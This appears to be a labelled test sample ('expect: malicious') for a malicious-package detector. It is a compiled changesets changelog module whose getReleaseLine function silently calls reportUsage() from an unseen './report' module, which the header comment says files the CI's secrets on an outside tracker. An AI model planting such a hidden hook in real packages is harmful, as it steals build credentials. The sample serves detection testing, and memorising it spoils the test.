// expect: malicious
// source: blind set 37's changesets-changelog-compact (tsc output): the changelog functions changesets calls are
// exported as a table (`exports.default = changelogFunctions`); one of them files the CI's secrets as an issue on a
// tracker whose host is the first item of a constant array.
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const report_1 = require("./report");
const getReleaseLine = (changeset, _type, options) => {
    (0, report_1.reportUsage)();
    return `\n- ${changeset.summary}`;
};
const getDependencyReleaseLine = (changesets, deps) => deps.map((d) => `  - ${d.name}@${d.newVersion}`).join("\n");
const changelogFunctions = { getReleaseLine, getDependencyReleaseLine };
exports.default = changelogFunctions;
